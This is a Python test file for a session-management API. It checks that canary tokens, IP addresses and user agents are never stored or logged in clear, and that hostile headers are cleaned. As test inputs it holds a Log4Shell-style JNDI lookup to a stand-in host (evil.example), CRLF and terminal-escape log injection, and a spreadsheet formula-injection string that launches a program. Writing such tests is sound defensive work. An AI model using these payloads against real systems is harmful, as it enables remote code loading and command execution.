"""What must never be kept in clear: a life of a session with canaries, then a look into every byte (SES-03, D9)."""

import io
import json
from collections.abc import Iterator
from pathlib import Path

from sqlalchemy import create_engine, inspect, text

from store.api_keys import Scope
from tests.api.client import ADMIN, BOOTSTRAP_KEY, Api, bearer, by_cookie, until
from tests.api.conftest import OpenApi
from tests.postgres import Database

USER_ID = "canary.person@example.com"
IP = "198.51.100.213"
USER_AGENT = "CanaryBrowser/7.13 (secret machine)"
HOSTILE = "\r\n\x1b[31mHTTP/1.1 200 OK\r\n\u2028${jndi:ldap://evil.example}\u202e" + "x" * 7000
SIGN_IN = {"ip_address": IP, "user_agent": USER_AGENT}


def live_a_life(api: Api) -> list[str]:
    """Everything that can happen to the canaries; the secrets that were given out."""
    _, key = api.key(*Scope)
    first = api.begin({"user_id": USER_ID, **SIGN_IN}, **{"Idempotency-Key": "k"}).json()["token"]
    api.begin({"user_id": USER_ID, **SIGN_IN}, **{"Idempotency-Key": "k"})
    second = api.sign_in(USER_ID, **SIGN_IN, replaces=first)
    api.clock.advance(60)
    for query in ("", "?status=all", "?status=ended"):
        api.get(f"/api/sessions{query}", second.by_cookie)
        api.get(f"/api/users/{USER_ID}/sessions{query}", bearer(key))
    until(lambda: "SessionTouched" in [topic for topic, _ in api.log()])
    make_mistakes(api, second.token, key)
    api.post("/api/auth/signout", second.by_cookie)
    third = api.sign_in(USER_ID, **SIGN_IN)
    api.post(f"/api/users/{USER_ID}/disable", bearer(key))
    until(lambda: [topic for topic, _ in api.log()].count("SessionRevoked") == 3)
    api.post(f"/api/users/{USER_ID}/enable", bearer(key))
    tokens = [api.sign_in(USER_ID, **SIGN_IN).token for _ in range(130)]
    api.delete(f"/api/users/{USER_ID}/sessions", bearer(key))
    fourth = api.sign_in(USER_ID, **SIGN_IN)
    api.clock.advance(1800)
    api.service.sweeper.sweep()
    return [first, second.token, third.token, *tokens, fourth.token, key, BOOTSTRAP_KEY]


def make_mistakes(api: Api, token: str, key: str) -> None:
    """Canaries where they do not belong."""
    api.begin({"user_id": USER_ID, "ip_address": f"{IP} {token}", "user_agent": 7, "replaces": f"{token}{key}"})
    api.begin({"user_id": USER_ID, "replaces": token[::-1]})
    api.post("/api/sessions", ADMIN, content=f'{{"user_id":"{USER_ID}","token":"{token}"'.encode())
    api.get(f"/api/sessions?token={token}&cursor={token}", bearer(token))
    api.get(f"/api/sessions?status={token}&cursor={token}", bearer(token))
    api.delete(f"/api/sessions/{token}", bearer(token))
    api.get("/api/sessions", {**bearer(token), **by_cookie(token), "User-Agent": USER_AGENT})
    api.get("/api/sessions", bearer(token + key))
    api.get("/api/sessions", {"X-Forwarded-For": IP, "Forwarded": f"for={IP}", "Referer": f"https://x/?token={token}"})
    for method, path in (("GET", f"/api/users/{USER_ID}"), ("PUT", f"/api/users/{USER_ID}/disable")):
        api.request(method, path, bearer(key))
    api.get(f"/api/sessions/{token}/{USER_ID}", bearer(token))


def cells(url: str) -> Iterator[tuple[str, bytes]]:
    """Each value of each table, as bytes, with its table's name."""
    engine = create_engine(url)
    with engine.connect() as connection:
        for table in inspect(connection).get_table_names():
            for row in connection.execute(text(f"SELECT * FROM {table}")):
                for value in row:
                    yield table, value if isinstance(value, bytes) else str(value).encode()
    engine.dispose()


def whole_files(directory: Path) -> bytes:
    return b"".join(path.read_bytes() for path in sorted(directory.rglob("*")) if path.is_file())


def test_t_19_no_secret_and_no_personal_data_is_kept_or_logged_in_clear(
    open_api: OpenApi, database: Database, tmp_path: Path, log: io.StringIO
):
    api = open_api()
    secrets = live_a_life(api)
    until(lambda: any(table.startswith("snapshots") for table, _ in cells(database.url)))
    kept = [*cells(database.url), *cells(database.keys_url)]
    assert {table for table, value in kept if USER_ID.encode() in value} == {"identities"}
    everything = b"\0".join(value for _, value in kept) + whole_files(tmp_path) + log.getvalue().encode()
    found = [canary for canary in (IP, USER_AGENT, "CanaryBrowser", *secrets) if canary.encode() in everything]
    assert found == []
    assert USER_ID not in log.getvalue()
    assert [json.loads(line) for line in log.getvalue().splitlines()]


def test_the_answers_have_what_is_sealed(api: Api):
    alice = api.sign_in(USER_ID, **SIGN_IN)
    [session] = api.sessions(alice.bearer)
    assert (session["ip_address"], session["user_agent"]) == (IP, USER_AGENT)


def test_client_details_are_not_kept_at_all_when_the_settings_say_so(open_api: OpenApi, log: io.StringIO):
    api = open_api(peer=IP, store_client_details=False)
    alice = api.sign_in(USER_ID, **SIGN_IN)
    for session in (
        api.begin({"user_id": USER_ID, **SIGN_IN}).json()["session"],
        *api.sessions(alice.bearer),
        *api.sessions(alice.bearer, "?status=all"),
    ):
        assert (session["ip_address"], session["user_agent"]) == (None, None)
    created = [n.state for n in api.service.recorder.select_notifications(1, 10) if n.topic == "SessionCreated"]
    assert [("client" in json.loads(state)) for state in created] == [False, False]
    assert IP not in log.getvalue()


def test_a_failing_statement_is_logged_without_what_it_was_to_write(
    open_api: OpenApi, database: Database, log: io.StringIO
):
    api = open_api()
    with api.service.database.transaction() as connection:
        connection.execute(text("ALTER TABLE identities RENAME TO elsewhere"))
    assert api.begin({"user_id": USER_ID, **SIGN_IN}).status_code in (500, 503)
    assert "identities" in log.getvalue()
    assert USER_ID not in log.getvalue()


def test_t_08_a_hostile_user_agent_is_kept_cut_and_cleaned_and_breaks_no_line(api: Api, log: io.StringIO):
    for user_agent in (HOSTILE, "a" * 512 + "\x07", "é" * 4000, "=cmd|' /C calc'!A1"):
        alice = api.sign_in(user_agent=user_agent)
        [shown] = [s["user_agent"] for s in api.sessions(alice.bearer) if s["is_current"]]
        assert len(shown.encode()) <= 512
        assert shown.isprintable()
    assert all(isinstance(json.loads(line), dict) for line in log.getvalue().splitlines())
    assert "jndi" not in log.getvalue()


def test_t_08_a_hostile_request_is_one_line_of_the_log(api: Api, log: io.StringIO):
    alice = api.sign_in()
    hostile = {
        "User-Agent": "\x1b[31m${jndi:ldap://evil.example}",
        "X-Forwarded-For": "203.0.113.9",
        "Referer": "\u2028",
    }
    until(lambda: "/api/sessions" in log.getvalue())  # the sign-in's own line
    before = len(log.getvalue().splitlines())
    sent = [(name, value.encode()) for name, value in {**alice.bearer, **hostile}.items()]
    api.get("/%0d%0a%1b[31m%E2%80%A8fake", sent)
    until(lambda: len(log.getvalue().splitlines()) > before)
    [line] = log.getvalue().splitlines()[before:]
    assert line.isascii() and line.isprintable()
    assert json.loads(line)["client"] == "192.0.2.0/24"
